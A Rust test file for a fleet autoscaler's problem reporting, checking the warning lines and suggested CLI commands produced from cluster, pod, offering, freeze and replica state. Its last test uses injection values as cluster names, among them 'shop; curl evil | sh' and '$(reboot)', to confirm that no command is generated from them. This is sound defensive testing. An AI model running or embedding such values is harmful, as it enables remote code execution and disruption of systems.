use fleetwright_proto::v1;

use super::*;

const NOW_MS: i64 = 1_800_000_000_000;

/// A fleet without anything.
fn nothing() -> Facts {
    Facts {
        clusters: Vec::new(),
        pools: Vec::new(),
        pods: Vec::new(),
        offerings: Vec::new(),
        freezes: Vec::new(),
        replicas: Vec::new(),
        is_store_up: true,
    }
}

fn cluster() -> v1::Cluster {
    let guardrails = Some(v1::Guardrails::default());
    v1::Cluster {
        name: "clusters/shop".to_owned(),
        connected: true,
        synced: true,
        guardrails,
        ..v1::Cluster::default()
    }
}

fn guarded(guardrails: v1::Guardrails) -> v1::Cluster {
    v1::Cluster { guardrails: Some(guardrails), ..cluster() }
}

fn minutes_ago(minutes: i64) -> Option<prost_types::Timestamp> {
    Some(from_millis(NOW_MS - minutes * 60_000))
}

/// The problems as lines, in the order of their names.
fn shown(facts: &Facts) -> Vec<String> {
    let mut found = problems(facts, NOW_MS);
    found.sort_by(|one, other| one.name.cmp(&other.name));
    let names: std::collections::BTreeSet<&str> = found.iter().map(|problem| &*problem.name).collect();
    assert_eq!(names.len(), found.len(), "names differ");
    let line = |problem: &v1::Problem| {
        let severity = problem.severity().as_str_name().trim_start_matches("SEVERITY_").to_lowercase();
        let count = if problem.count == 0 { String::new() } else { format!("{} ", problem.count) };
        let reason = if problem.reason.is_empty() { String::new() } else { format!(" ({})", problem.reason) };
        format!("{severity} {}: {count}{}{reason} > {}", problem.name, problem.summary, problem.command)
    };
    found.iter().map(line).collect()
}

fn of(cluster: v1::Cluster) -> Vec<String> {
    shown(&Facts { clusters: vec![cluster], ..nothing() })
}

#[test]
fn a_fleet_in_which_nothing_is_wrong_has_no_problem() {
    assert_eq!(of(cluster()), Vec::<String>::new());
    assert_eq!(problems(&nothing(), NOW_MS), []);
}

#[test]
fn a_cluster_without_decisions_has_one_cause() {
    let pods = "kubectl get pods -n fleetwright-system -l app.kubernetes.io/name=fleetwright-agent";
    let lost = v1::Cluster { stale: true, connected: false, synced: false, observe_time: minutes_ago(3), ..cluster() };
    let since = problems(&Facts { clusters: vec![lost.clone()], ..nothing() }, NOW_MS)[0].start_time;
    assert_eq!(since, minutes_ago(3));
    assert_eq!(
        of(lost),
        [format!(
            "critical clusters/shop/problems/NoOwner: no server decides for it (no replica that answers owns it, or its agent \
             is connected to none) > {pods}"
        )]
    );
    let away = v1::Cluster { connected: false, synced: false, plan_error: "x".to_owned(), ..cluster() };
    assert_eq!(
        of(away),
        [format!("critical clusters/shop/problems/AgentDisconnected: its agent is disconnected > {pods}")]
    );
    let syncing = v1::Cluster { synced: false, plan_error: "x".to_owned(), ..cluster() };
    assert_eq!(
        of(syncing),
        [
            "warning clusters/shop/problems/NotSynced: its agent is sending its state (nothing is decided until it is complete) > \
          fleetwright fleet clusters --filter 'name = \"clusters/shop\"' -o yaml"
        ]
    );
    let quarantined = v1::Guardrails { quarantine_reason: "it lost 9 of 10 nodes".to_owned(), ..Default::default() };
    assert_eq!(
        of(v1::Cluster { synced: false, ..guarded(quarantined) }),
        [
            "critical clusters/shop/problems/Quarantined: the snapshot of its agent is quarantined (it lost 9 of 10 nodes) > \
          fleetwright quarantine release shop"
        ]
    );
    let failed = v1::Cluster { plan_error: "no catalogue".to_owned(), ..cluster() };
    assert_eq!(
        of(failed),
        ["critical clusters/shop/problems/PlanFailed: its last plan failed (no catalogue) > \
          fleetwright history --cluster shop"]
    );
}

#[test]
fn each_guardrail_in_effect_is_a_problem() {
    let text = |text: &str| text.to_owned();
    let waiting =
        v1::WaitingRemoval { reason: text("its node was deleted"), release: text("confirm"), ..Default::default() };
    let guardrails = v1::Guardrails {
        shadow: true,
        disruption_shadow: true,
        circuit_breaker_reason: text("3 failed"),
        launches_blocked_reason: text("rate limit"),
        removals_blocked_reason: text("budget"),
        listing_rejected_reason: text("half are missing"),
        backoff_pod_count: 4,
        waiting_removals: vec![waiting],
        waiting_removal_count: 12,
        // The freeze itself is the problem.
        freeze_reasons: vec![text("freeze 7")],
        ..Default::default()
    };
    assert_eq!(
        of(guarded(guardrails)),
        [
            "critical clusters/shop/problems/CircuitBreakerOpen: removals are stopped by the circuit breaker (3 failed) > \
             fleetwright removals",
            "warning clusters/shop/problems/LaunchBackoff: 4 pods are in launch backoff (earlier launches did not bind them) > \
             fleetwright fleet pods --cluster shop",
            "warning clusters/shop/problems/LaunchesBlocked: launches are blocked (rate limit) > \
             fleetwright history --cluster shop",
            "critical clusters/shop/problems/ListingRejected: the cloud's list of its instances is suspicious (half are missing) \
             > fleetwright removals",
            "warning clusters/shop/problems/RemovalsBlocked: removals are blocked (budget) > \
             fleetwright history --cluster shop",
            "warning clusters/shop/problems/RemovalsWaiting: 12 removals wait (its node was deleted; confirm) > \
             fleetwright removals",
            "info clusters/shop/problems/Shadow: decisions are recorded and not carried out > \
             fleetwright history --cluster shop",
        ]
    );
}

#[test]
fn what_keeps_fleetwright_from_a_part_of_a_cluster_is_a_problem() {
    let left = v1::UnmanagedPool { node_pool: "gpu".to_owned(), reason: "another node class".to_owned() };
    let partly = v1::Cluster {
        problems: vec!["NodePool x cannot be read".to_owned(), "pods cannot be watched".to_owned()],
        unmanaged_pools: vec![left],
        autoscalers: vec!["karpenter".to_owned(), "cluster-autoscaler".to_owned()],
        ..cluster()
    };
    let show = "fleetwright fleet clusters --filter 'name = \"clusters/shop\"' -o yaml";
    assert_eq!(
        of(partly),
        [
            "warning clusters/shop/problems/OtherAutoscaler: another autoscaler is active: karpenter, cluster-autoscaler (two \
             of them launch and remove machines for the same pods) > \
             fleetwright freeze --reason 'two autoscalers' --cluster shop"
                .to_owned(),
            format!("info clusters/shop/problems/UnmanagedPools: 1 NodePools are not managed (gpu: another node class) > {show}"),
            format!(
                "warning clusters/shop/problems/UnreadableObjects: 2 objects cannot be read or watched (NodePool x cannot be \
                 read) > {show}"
            ),
        ]
    );
    let pool = v1::Pool {
        name: "clusters/shop/pools/spot".to_owned(),
        not_ready_reason: "its EC2NodeClass is not ready".to_owned(),
        ..v1::Pool::default()
    };
    assert_eq!(
        shown(&Facts { pools: vec![pool], ..nothing() }),
        [
            "warning clusters/shop/pools/spot/problems/NodePoolNotReady: no instance can be launched from it (its EC2NodeClass is \
          not ready) > kubectl describe nodepool spot"
        ]
    );
}

fn pod(name: &str, minutes: i64, state: v1::PodState, reason: Option<(&str, &str)>) -> v1::Pod {
    let reason = reason.map(|(pool, code)| v1::Reason {
        pool: pool.to_owned(),
        code: code.to_owned(),
        message: "it lacks room".to_owned(),
    });
    v1::Pod {
        name: format!("clusters/shop/namespaces/web/pods/{name}"),
        create_time: minutes_ago(minutes),
        state: state.into(),
        reasons: reason.into_iter().collect(),
        ..v1::Pod::default()
    }
}

#[test]
fn pods_that_wait_for_more_than_five_minutes_are_one_problem_for_each_reason() {
    let state = v1::PodState::Unschedulable;
    let planned = v1::Pod { planned_node: "default-7".to_owned(), ..pod("f", 6, v1::PodState::Planned, None) };
    let pods = vec![
        pod("a", 30, state, Some(("spot", "NoRoom"))),
        pod("b", 20, state, Some(("", "NoPool"))),
        pod("c", 10, state, Some(("other", "NoRoom"))),
        pod("d", 9, v1::PodState::Waiting, None),
        pod("e", 5, v1::PodState::Waiting, None),
        planned,
    ];
    let facts = Facts { pods, ..nothing() };
    assert_eq!(
        shown(&facts),
        [
            "critical clusters/shop/problems/PodsUnschedulable.NoPool: 1 pods have no place (web/b waits longest: it lacks room) \
             > fleetwright why pod b -n web --cluster shop",
            "critical clusters/shop/problems/PodsUnschedulable.NoRoom: 2 pods have no place (web/a waits longest: NodePool spot: \
             it lacks room) > fleetwright why pod a -n web --cluster shop",
            "warning clusters/shop/problems/PodsWaitForNode: 1 pods wait for their node (web/f waits longest, for default-7) > \
             fleetwright why pod f -n web --cluster shop",
            "critical clusters/shop/problems/PodsWaitForPlan: 1 pods wait for a plan (web/d waits longest) > \
             fleetwright why pod d -n web --cluster shop",
        ]
    );
    let longest = problems(&facts, NOW_MS).into_iter().find(|problem| problem.code == "PodsUnschedulable.NoRoom");
    assert_eq!(longest.and_then(|problem| problem.start_time), minutes_ago(30));
}

fn offering(instance_type: &str, zone: &str, until_minutes: i64, failures: u32) -> v1::Offering {
    v1::Offering {
        name: format!("offerings/{instance_type}.{zone}"),
        instance_type: instance_type.to_owned(),
        zone_id: zone.to_owned(),
        capacity_type: "spot".to_owned(),
        failure_count: failures,
        refuse_time: minutes_ago(until_minutes),
        exclude_until_time: minutes_ago(-until_minutes),
        reason: "InsufficientInstanceCapacity".to_owned(),
        ..v1::Offering::default()
    }
}

#[test]
fn offerings_that_are_excluded_now_are_one_problem_for_each_type() {
    let offerings = vec![
        offering("m6i.large", "use1-az2", 2, 1),
        offering("m6i.large", "use1-az1", 3, 2),
        offering("c7g.large", "use1-az1", 1, 1),
        offering("r6a.large", "use1-az1", -1, 1),
        offering("r7a.large", "use1-az1", 1, 0),
    ];
    let facts = Facts { offerings, ..nothing() };
    assert_eq!(
        shown(&facts),
        [
            "info problems/Shortage.c7g.large.spot: 1 the cloud refuses spot c7g.large in use1-az1 (InsufficientInstanceCapacity) \
             > fleetwright fleet offerings --filter 'instance_type = \"c7g.large\"'",
            "info problems/Shortage.m6i.large.spot: 2 the cloud refuses spot m6i.large in use1-az1, use1-az2 \
             (InsufficientInstanceCapacity) > fleetwright fleet offerings --filter 'instance_type = \"m6i.large\"'",
        ]
    );
    let first = problems(&facts, NOW_MS).into_iter().find(|problem| problem.count == 2);
    assert_eq!(first.and_then(|problem| problem.start_time), minutes_ago(3), "since the first refusal");
}

#[test]
fn freezes_replicas_and_the_store_are_problems_of_the_fleet_or_of_their_target() {
    let freeze = |id: u32, target: &str, only_disruption| v1::Freeze {
        name: format!("freezes/{id}"),
        target: target.to_owned(),
        creator: "ana".to_owned(),
        reason: "incident 4".to_owned(),
        create_time: minutes_ago(9),
        only_disruption,
        ..v1::Freeze::default()
    };
    let replica =
        |name: &str, reachable| v1::Replica { replica: name.to_owned(), reachable, reason: "refused".to_owned() };
    let facts = Facts {
        freezes: vec![freeze(7, "", false), freeze(8, "clusters/shop", true)],
        replicas: vec![replica("one", true), replica("two", false)],
        is_store_up: false,
        ..nothing()
    };
    assert_eq!(
        shown(&facts),
        [
            "info clusters/shop/problems/Frozen.8: voluntary disruption is frozen (incident 4, by ana) > fleetwright thaw --id 8",
            "info problems/Frozen.7: launches and voluntary removals are frozen (incident 4, by ana) > fleetwright thaw --id 7",
            "warning problems/ReplicaUnreachable-two: replica two does not answer (refused) > fleetwright fleet clusters -o wide",
            "critical problems/StoreUnavailable: the store does not answer (nothing is decided, and freezes and refused offerings \
             are not known, until it does) > ",
        ]
    );
}

/// Agents report names: one with a semicolon would run what follows it.
#[test]
fn there_is_no_command_with_a_name_that_is_not_one_word() {
    for id in ["shop; curl evil | sh", "$(reboot)", "a b", "a\nb", "--server=evil", "é", "'", "shop\u{202e}"] {
        let named = v1::Cluster { name: format!("clusters/{id}"), plan_error: "x".to_owned(), ..cluster() };
        let found = problems(&Facts { clusters: vec![named], ..nothing() }, NOW_MS);
        assert_eq!((found.len(), &*found[0].command), (1, ""), "{id:?}");
    }
}
